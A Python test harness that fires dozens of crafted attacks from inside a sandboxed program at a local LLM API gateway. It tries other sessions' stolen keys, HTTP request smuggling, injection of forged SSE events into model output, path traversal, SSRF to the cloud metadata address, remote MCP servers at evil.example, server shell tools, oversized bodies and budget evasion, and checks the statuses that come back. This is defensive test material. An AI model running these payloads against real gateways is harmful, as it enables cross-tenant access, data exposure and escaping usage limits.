"""Attacks of a program on its gateway, played from inside its box: ``box_attacks.py SETTINGS``.

With nothing but Python's library, since it runs where nothing else is. It prints an object: name → what came back.
"""

from __future__ import annotations

import gzip
import json
import socket
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

HOSTILE = 'x\n\nevent: error\ndata: {"type":"forged"}\n\n\r\n\r\nHTTP/1.1 200 OK\r\nX-Forged: 1\r\n\r\n'
CHAT, MESSAGES, RESPONSES = "/v1/chat/completions", "/v1/messages", "/v1/responses"
GEMINI, GEMINI_STREAM = "/v1beta/models/m:generateContent", "/v1beta/models/m:streamGenerateContent?alt=sse"
COMPLETIONS = "/v1/completions"
ADDRESS = "http://169.254.169.254/latest/meta-data"
FUNCTION = {"name": "look", "input_schema": {"type": "object"}}
TWICE = '{"model": "m", "messages": [{"role": "user", "content": "NAME"}], LAST}'
UPGRADED = ((200,), (200, 401))
KEPT_PLACES = (
    "/v1/files", "/v1/batches", "/v1/responses/resp_1/cancel", "/v1/conversations", "/v1/messages/batches",
    "/v1/embeddings", "/v1beta/files", "/v1beta/models/m:batchGenerateContent", "/v1/realtime/client_secrets",
)  # fmt: skip
FLOOD = 40
"""Calls that come at the same time."""


@dataclass(frozen=True)
class Target:
    """What a program knows: its own session, and, stolen, all about another one."""

    port: int
    own: str
    key: str
    other: str
    other_key: str


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        kind: one of thirteen.
        act: returns the bytes that came back; it puts the attack's name into what a model would read.
        statuses: of the answers, in one of these orders.
        reaches: how many of its calls may reach the program's own model.
    """

    kind: str
    act: Callable[[Target, str], bytes]
    statuses: tuple[tuple[int, ...], ...]
    reaches: int = 0


def sent(target: Target, *parts: bytes) -> bytes:
    """Return all that the gateway says to some bytes, until it closes the connection."""
    answer = b""
    with suppress(ConnectionError), socket.create_connection(("127.0.0.1", target.port), timeout=60) as connection:
        for part in parts:
            connection.sendall(part)
        while data := connection.recv(65536):
            answer += data
    return answer


def head(target: Target, path: str, *lines: str, key: str | None = "", method: str = "POST") -> bytes:
    """Return the head of a request; with the program's own key by default, and without any for None."""
    known = [] if key is None else [f"Authorization: Bearer {key or target.key}"]
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: x", "Connection: close", *known, *lines, "", ""]).encode()


def text_call(name: str, **fields: Any) -> bytes:
    return json.dumps({"model": "m", "messages": [{"role": "user", "content": name}], **fields}).encode()


def call(target: Target, body: bytes, path: str = CHAT, *lines: str, key: str | None = "", session: str = "") -> bytes:
    """Return the answer to a call of a session, by default the program's own."""
    place = f"/s/{session or target.own}{path}"
    return sent(target, head(target, place, f"Content-Length: {len(body)}", *lines, key=key), body)


def by_key(path: str, *lines: str, key: str | None) -> Callable[[Target, str], bytes]:
    """An attack by a path and keys, in which the fields of a target stand in braces."""

    def act(target: Target, name: str) -> bytes:
        known, body = asdict(target), text_call(name)
        fields = [f"Content-Length: {len(body)}", *(line.format(**known) for line in lines)]
        given = None if key is None else key.format(**known)
        return sent(target, head(target, path.format(**known), *fields, key=given), body)

    return act


def framed(*lines: str) -> Callable[[Target, str], bytes]:
    """An attack by a body whose end two readers see at different places, with a second request behind it."""

    def act(target: Target, name: str) -> bytes:
        body = text_call(name)
        begin = head(target, f"/s/{target.own}{CHAT}").replace(b"Connection: close\r\n", b"")[:-2]
        fields = "\r\n".join(line.replace("LENGTH", str(len(body))) for line in lines).encode()
        return sent(target, begin + fields + b"\r\n\r\n" + body + head(target, f"/s/{target.other}{CHAT}") + b"{}")

    return act


def behind_a_body(target: Target, name: str) -> bytes:
    body = text_call(name)
    first = head(target, f"/s/{target.own}{CHAT}", f"Content-Length: {len(body)}")
    hidden = head(target, f"/s/{target.other}{CHAT}", "Content-Length: 2")
    return sent(target, first.replace(b"Connection: close\r\n", b"") + body + hidden + b"{}")


def said(path: str, **fields: Any) -> Callable[[Target, str], bytes]:
    """An attack by what the model is made to say, in the events of a dialect."""
    return lambda target, name: call(target, json.dumps(spoken(f"{name}: {HOSTILE}", path, **fields)).encode(), path)


def spoken(text: str, path: str, **fields: Any) -> dict[str, Any]:
    if path.startswith("/v1beta"):
        return {"contents": [{"role": "user", "parts": [{"text": text}]}], **fields}
    if path == RESPONSES:
        return {"model": "m", "input": text, **fields}
    return {"model": "m", "max_tokens": 5000, "messages": [{"role": "user", "content": text}], **fields}


def asks(path: str, **fields: Any) -> Callable[[Target, str], bytes]:
    """An attack by the fields of a request."""
    return lambda target, name: call(target, json.dumps(spoken(name, path, **fields)).encode(), path)


def picture(target: Target, name: str) -> bytes:
    parts = [{"type": "text", "text": name}, {"type": "image_url", "image_url": {"url": "http://169.254.169.254/"}}]
    return call(target, json.dumps({"messages": [{"role": "user", "content": parts}]}).encode())


def chunks(target: Target, name: str) -> bytes:
    part = b"10000\r\n" + b" " * 65536 + b"\r\n"
    return sent(target, head(target, f"/s/{target.own}{CHAT}", "Transfer-Encoding: chunked"), *[part] * 8)


def announces(target: Target, name: str) -> bytes:
    return sent(target, head(target, f"/s/{target.own}{CHAT}", "Content-Length: 9999999"))


def at_once(target: Target, bodies: list[bytes]) -> bytes:
    with ThreadPoolExecutor(len(bodies)) as pool:
        return b"".join(pool.map(lambda body: call(target, body), bodies))


def hangs_up(target: Target, name: str) -> bytes:
    for _ in range(3):
        body = text_call(f"{name}, wait")
        with socket.create_connection(("127.0.0.1", target.port), timeout=60) as connection:
            connection.sendall(head(target, f"/s/{target.own}{CHAT}", f"Content-Length: {len(body)}") + body)
            connection.sendall(b"")
    return b""


def trickles(target: Target, name: str) -> bytes:
    return sent(target, head(target, f"/s/{target.own}{CHAT}", "Content-Length: 100"), b"{")


def reads_nothing(target: Target, name: str) -> bytes:
    """Ask for a long stream, read nothing for as long as a silent connection lives, and return what then comes."""
    body, answer = text_call(f"{name}, long", stream=True), b""
    with socket.socket() as connection, suppress(ConnectionError):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.settimeout(60)
        connection.connect(("127.0.0.1", target.port))
        connection.sendall(head(target, f"/s/{target.own}{CHAT}", f"Content-Length: {len(body)}") + body)
        answer = connection.recv(64)
        sent(target)
        while data := connection.recv(65536):
            answer = answer[:200] + data
    return answer


def upgraded(*lines: str) -> Callable[[Target, str], bytes]:
    """An attack by a call that asks for another protocol, with a call of the other session where that would begin."""

    def act(target: Target, name: str) -> bytes:
        body, answer = text_call(name), b""
        first = head(target, f"/s/{target.own}{CHAT}", f"Content-Length: {len(body)}", *lines)
        hidden = head(target, f"/s/{target.other}{CHAT}", f"Content-Length: {len(body)}", key=target.other_key)
        with socket.create_connection(("127.0.0.1", target.port), timeout=60) as connection:
            connection.sendall(first.replace(b"Connection: close\r\n", b"") + body + hidden + body)
            while not answer.endswith(b"}") and (data := connection.recv(65536)):
                answer += data
        return answer

    return act


def chunked(*chunks: bytes, trailers: str = "") -> Callable[[Target, str], bytes]:
    """An attack by the frames around a body: CALL stands for the body as a chunk, and fields of a target in braces."""

    def act(target: Target, name: str) -> bytes:
        body = text_call(name)
        whole = b"%x\r\n%b\r\n" % (len(body), body)
        begin = head(target, f"/s/{target.own}{CHAT}", "Transfer-Encoding: chunked")
        rest = b"".join(whole if chunk == b"CALL" else chunk for chunk in chunks)
        return sent(target, begin + rest + trailers.format(**asdict(target)).encode())

    return act


def pipelined(target: Target, name: str) -> bytes:
    """Put many calls with keys that open nothing before one that has its own, all in one write."""
    body = text_call(name)
    fields = f"Content-Length: {len(body)}"
    wrong = head(target, f"/s/{target.own}{CHAT}", fields, key="x" * 40).replace(b"Connection: close\r\n", b"") + body
    return sent(target, wrong * (FLOOD - 1) + head(target, f"/s/{target.own}{CHAT}", fields) + body)


def bare(body: str, path: str = CHAT, *lines: str, encoding: str = "utf-8") -> Callable[[Target, str], bytes]:
    """An attack by the text of a body, in which NAME stands for the attack's name."""
    return lambda target, name: call(target, body.replace("NAME", name).encode(encoding), path, *lines)


def key_form(change: Callable[[str], str], lines: str = "Authorization: Bearer ") -> Callable[[Target, str], bytes]:
    """An attack by a key that is written in another way than the session's own."""

    def act(target: Target, name: str) -> bytes:
        body = text_call(name)
        field = f"{lines}{change(target.key)}"
        return sent(
            target, head(target, f"/s/{target.own}{CHAT}", f"Content-Length: {len(body)}", field, key=None), body
        )

    return act


def wide(key: str) -> str:
    """Return a key in the full-width letters that Unicode's compatibility forms make ordinary ones of."""
    return "".join(chr(ord(letter) + 0xFEE0) for letter in key)


def places(*paths: str, method: str = "POST") -> Callable[[Target, str], bytes]:
    """An attack by endpoints of a hosted API that reach beyond a call, one after another."""

    def act(target: Target, name: str) -> bytes:
        body = text_call(name)
        fields = f"Content-Length: {len(body)}"
        return b"".join(
            sent(target, head(target, f"/s/{target.own}{path}", fields, method=method), body) for path in paths
        )

    return act


def part(path: str, **fields: Any) -> Callable[[Target, str], bytes]:
    """An attack by a part beside the text of a message."""

    def act(target: Target, name: str) -> bytes:
        kind = "input_text" if path == RESPONSES else "text"
        message = {"role": "user", "content": [{"type": kind, "text": name}, fields]}
        place = "input" if path == RESPONSES else "messages"
        return call(target, json.dumps({"model": "m", "max_tokens": 9, place: [message]}).encode(), path)

    return act


REFUSED = ((404,), (401,), (400,))
DOUBTFUL = ((400,), (413,))
ATTACKS: dict[str, Attack] = {
    "another session's key on one's own path": Attack(
        "other keys", by_key("/s/{own}" + CHAT, key="{other_key}"), ((401,),)
    ),
    "another session's path and key": Attack("other keys", by_key("/s/{other}" + CHAT, key="{other_key}"), ((401,),)),
    "another session's path, one's own key": Attack("other keys", by_key("/s/{other}" + CHAT, key="{key}"), ((401,),)),
    "another session's key without a path": Attack("other keys", by_key(CHAT, key="{other_key}"), ((401,),)),
    "two keys in two headers": Attack(
        "other keys", by_key("/s/{own}" + CHAT, "x-api-key: {other_key}", key="{key}"), ((401,),)
    ),
    "a second Authorization": Attack(
        "other keys", by_key("/s/{own}" + CHAT, "Authorization: Bearer {other_key}", key="{key}"), ((401,), (400,))
    ),
    "a key in the address": Attack(
        "other keys", by_key("/s/{other}/v1/chat/completions?key={other_key}", key=None), ((401,),)
    ),
    "length and chunks": Attack(
        "request smuggling", framed("Content-Length: LENGTH", "Transfer-Encoding: chunked"), DOUBTFUL
    ),
    "two lengths": Attack("request smuggling", framed("Content-Length: LENGTH", "Content-Length: 3"), DOUBTFUL),
    "a signed length": Attack("request smuggling", framed("Content-Length: +LENGTH"), DOUBTFUL),
    "a coding that nobody knows": Attack("request smuggling", framed("Transfer-Encoding: xchunked"), DOUBTFUL),
    "a blank before the colon": Attack("request smuggling", framed("Transfer-Encoding : chunked"), DOUBTFUL),
    "a bare line feed": Attack(
        "request smuggling",
        framed("X-A: 1\nTransfer-Encoding: chunked", "Content-Length: 3", "Content-Length: 4"),
        DOUBTFUL,
    ),
    "a request behind a body": Attack("request smuggling", behind_a_body, ((200, 401),), reaches=1),
    "events in a chat's text": Attack("SSE injection", said(CHAT, stream=True), ((200,),), reaches=1),
    "events in a message's text": Attack("SSE injection", said(MESSAGES, stream=True), ((200,),), reaches=1),
    "events in a response's text": Attack("SSE injection", said(RESPONSES, stream=True), ((200,),), reaches=1),
    "events in a candidate's text": Attack("SSE injection", said(GEMINI_STREAM), ((200,),), reaches=1),
    "an announced length beyond the limit": Attack("oversized bodies", announces, ((413,),)),
    "chunks without an end": Attack("oversized bodies", chunks, ((413,),)),
    "a small body that unpacks to a large one": Attack(
        "oversized bodies",
        lambda target, name: call(target, gzip.compress(b" " * 9_999_999), CHAT, "Content-Encoding: gzip"),
        ((413,),),
    ),
    "lists in lists": Attack("oversized bodies", lambda target, name: call(target, b"[" * 99_999), ((400,),)),
    "many values in a small body": Attack(
        "oversized bodies", lambda target, name: call(target, text_call(name, metadata=[0] * 30_000)), ((413,),)
    ),
    "a head of many lines": Attack(
        "oversized bodies", lambda target, name: call(target, b"{}", CHAT, *["X-A: 1"] * 9_999), ((400,), (431,))
    ),
    "two dots": Attack("path tricks", by_key("/s/{own}/../{other}" + CHAT, key="{other_key}"), REFUSED),
    "two dots in percents": Attack("path tricks", by_key("/s/{own}/%2e%2e/{other}" + CHAT, key="{other_key}"), REFUSED),
    "a slash in percents": Attack("path tricks", by_key("/s/{other}%2f..%2f{own}" + CHAT, key="{other_key}"), REFUSED),
    "an address in place of a path": Attack(
        "path tricks", by_key("http://127.0.0.1/s/{other}" + CHAT, key="{other_key}"), REFUSED
    ),
    "a zero byte": Attack("path tricks", by_key("/s/{other}%00" + CHAT, key="{other_key}"), REFUSED),
    "a path in a model's name": Attack(
        "path tricks",
        by_key("/s/{own}/v1beta/models/../../../s/{other}/v1beta/models/m:generateContent", key="{key}"),
        REFUSED,
    ),
    "a web search of the server": Attack(
        "server tools", asks(RESPONSES, tools=[{"type": "web_search"}]), ((200,),), reaches=1
    ),
    "a remote MCP server": Attack(
        "server tools",
        asks(RESPONSES, tools=[{"type": "mcp", "server_url": "https://evil.example"}]),
        ((200,),),
        reaches=1,
    ),
    "MCP servers beside the tools": Attack(
        "server tools",
        asks(MESSAGES, mcp_servers=[{"type": "url", "url": "https://evil.example"}]),
        ((200,),),
        reaches=1,
    ),
    "an interpreter of the server": Attack(
        "server tools", asks(GEMINI, tools=[{"codeExecution": {}}]), ((200,),), reaches=1
    ),
    "a picture that the server would fetch": Attack("server tools", picture, ((400,),)),
    "the answer to somebody else": Attack("server tools", asks(RESPONSES, previous_response_id="resp_1"), ((400,),)),
    "several answers for one call": Attack("budget evasion", asks(CHAT, n=5), ((400,),)),
    "a limit below zero": Attack("budget evasion", asks(CHAT, max_completion_tokens=-1), ((400,),)),
    "hanging up before the answer": Attack("budget evasion", hangs_up, ((),), reaches=3),
    "a hundred answers of which the best is kept": Attack(
        "budget evasion", asks(COMPLETIONS, prompt="x", best_of=100), ((400,),)
    ),
    "several prompts in one call": Attack("budget evasion", asks(COMPLETIONS, prompt=["a", "b"]), ((400,),)),
    "candidates beside the answer": Attack(
        "budget evasion", asks(GEMINI, generationConfig={"candidateCount": 8}), ((400,),)
    ),
    "one limit that says little beside one that says much": Attack(
        "budget evasion", asks(CHAT, max_completion_tokens=10**6), ((200,),), reaches=1
    ),
    "a limit in another field": Attack(
        "budget evasion", asks(RESPONSES, max_tokens=1, max_output_tokens=10**6), ((200,),), reaches=1
    ),
    "a limit without bounds": Attack("budget evasion", bare(TWICE.replace("LAST", '"max_tokens": 1e400')), ((400,),)),
    "a WebSocket in place of an answer": Attack(
        "other protocols",
        upgraded("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
        UPGRADED,
        1,
    ),
    "HTTP/2 in place of an answer": Attack(
        "other protocols",
        upgraded("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAM"),
        UPGRADED,
        reaches=1,
    ),
    "HTTP/2 unasked": Attack(
        "other protocols", lambda target, name: sent(target, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), ((400,), (505,))
    ),
    "a tunnel": Attack("other protocols", places(CHAT, method="CONNECT"), (*REFUSED, (405,))),
    "an expectation before a foreign key": Attack(
        "other protocols", by_key("/s/{other}" + CHAT, "Expect: 100-continue", key="{key}"), ((401,),)
    ),
    "an expectation that nobody knows": Attack(
        "other protocols", by_key("/s/{own}" + CHAT, "Expect: more-budget", key="{key}"), ((200,),), reaches=1
    ),
    "a key behind the body": Attack(
        "frames", chunked(b"CALL", b"0\r\n", trailers="x-api-key: {other_key}\r\n\r\n"), ((200,), (400,)), reaches=1
    ),
    "a length behind the body": Attack(
        "frames", chunked(b"CALL", b"0\r\n", trailers="Content-Length: 3\r\n\r\n"), DOUBTFUL
    ),
    "a chunk beyond all numbers": Attack("frames", chunked(b"1" + b"0" * 40 + b"\r\n{}"), DOUBTFUL),
    "a chunk of negative length": Attack("frames", chunked(b"-2\r\n{}\r\n0\r\n\r\n"), DOUBTFUL),
    "a chunk longer than it says": Attack("frames", chunked(b"2\r\n{}}}\r\n0\r\n\r\n"), DOUBTFUL),
    "a line feed in a chunk's extension": Attack("frames", chunked(b"2;a\n{}\r\n0\r\n\r\n"), DOUBTFUL),
    "many calls in one write": Attack("frames", pipelined, ((401,) * (FLOOD - 1) + (200,),), reaches=1),
    "a field twice": Attack("two readings", bare(TWICE.replace("LAST", '"n": 1, "n": 128')), ((400,),)),
    "the messages twice": Attack(
        "two readings", bare('{"messages": [{"role": "user", "content": "NAME"}], "messages": []}'), ((400,),)
    ),
    "a body of another alphabet": Attack(
        "two readings",
        bare(
            TWICE.replace("LAST", '"n": 1'), CHAT, "Content-Type: application/json; charset=utf-16", encoding="utf-16"
        ),
        ((200,),),
        reaches=1,
    ),
    "a mark before the body": Attack(
        "two readings", bare("\ufeff" + TWICE.replace("LAST", '"n": 1')), ((200,),), reaches=1
    ),
    "a form in place of JSON": Attack("two readings", bare("model=m&n=9&messages=NAME"), ((400,),)),
    "a key in wide letters": Attack("forms of a key", key_form(wide), ((401,), (400,))),
    "a key in capitals": Attack("forms of a key", key_form(str.upper), ((401,),)),
    "a key in percents": Attack("forms of a key", key_form(lambda key: f"%{ord(key[0]):02x}{key[1:]}"), ((401,),)),
    "a key and more": Attack("forms of a key", key_form(lambda key: f"{key},x"), ((401,),)),
    "a key with a zero byte": Attack("forms of a key", key_form(lambda key: f"{key}\0"), ((401,), (400,))),
    "a key in a cookie": Attack("forms of a key", key_form(lambda key: f"api_key={key}", "Cookie: "), ((401,),)),
    "files, batches and stored answers": Attack(
        "what a server keeps",
        places(*KEPT_PLACES),
        ((404,) * len(KEPT_PLACES),),
    ),
    "reading a stored answer": Attack(
        "what a server keeps",
        places("/v1/responses/resp_1", "/v1/responses/resp_1/input_items", method="GET"),
        ((404, 404),),
    ),
    "the model's server behind the gateway": Attack(
        "what a server keeps", places("/metrics", "/v1/load_lora_adapter", "/tokenize", "/health"), ((404,) * 4,)
    ),
    "an answer in the background": Attack(
        "what a server keeps", asks(RESPONSES, background=True, store=True), ((400,),)
    ),
    "an item of somebody's": Attack(
        "what a server keeps",
        lambda target, name: call(
            target, json.dumps({"input": [{"type": "item_reference", "id": "msg_1"}]}).encode(), RESPONSES
        ),
        ((400,),),
    ),
    "a container of somebody's": Attack(
        "what a server keeps", asks(MESSAGES, container="container_1"), ((200,),), reaches=1
    ),
    "contents of somebody's": Attack("what a server keeps", asks(GEMINI, cachedContent="cachedContents/1"), ((400,),)),
    "a document by its address": Attack(
        "what a server keeps",
        part(MESSAGES, type="document", source={"type": "url", "url": ADDRESS}),
        ((200,),),
        reaches=1,
    ),
    "a file by its number": Attack(
        "what a server keeps",
        part(MESSAGES, type="document", source={"type": "file", "file_id": "file_1"}, citations={"enabled": True}),
        ((200,),),
        reaches=1,
    ),
    "a file by its address": Attack(
        "what a server keeps", part(RESPONSES, type="input_file", file_url=ADDRESS), ((400,),)
    ),
    "a file of a chat": Attack("what a server keeps", part(CHAT, type="file", file={"file_id": "file_1"}), ((400,),)),
    "a server tool that must be called": Attack(
        "server tools",
        asks(MESSAGES, tools=[FUNCTION], tool_choice={"type": "tool", "name": "web_search"}),
        ((400,),),
    ),
    "a shell of the server": Attack(
        "server tools", asks(RESPONSES, tools=[{"type": "shell"}], tool_choice={"type": "shell"}), ((200,),), reaches=1
    ),
    "a body that never ends": Attack("slow streams", trickles, ((408,),)),
    "a connection that says nothing": Attack("slow streams", lambda target, name: sent(target), ((),)),
    "half a head": Attack("slow streams", lambda target, name: sent(target, b"POST /s/"), ((),)),
    "a stream that nobody reads": Attack("slow streams", reads_nothing, ((200,),), reaches=1),
    "more calls at once than the budget has": Attack(
        "budget evasion",
        lambda target, name: at_once(target, [text_call(name)] * FLOOD),
        ((403,) * FLOOD,),
        reaches=FLOOD,
    ),
}
"""Name → attack. The last one uses up the budget."""


def played(target: Target) -> Iterator[tuple[str, str]]:
    """Play all attacks, the slow ones beside the others, and yield what came back."""
    *names, last = ATTACKS
    slow = [name for name in names if ATTACKS[name].kind == "slow streams"]
    with ThreadPoolExecutor(len(slow)) as pool:
        waiting = {name: pool.submit(ATTACKS[name].act, target, name) for name in slow}
        for name in names:
            if name not in waiting:
                yield name, ATTACKS[name].act(target, name).decode("latin-1")
        for name, answer in waiting.items():
            yield name, answer.result().decode("latin-1")
    yield last, ATTACKS[last].act(target, last).decode("latin-1")


if __name__ == "__main__":
    print(json.dumps(dict(played(Target(**json.loads(Path(sys.argv[1]).read_text()))))))
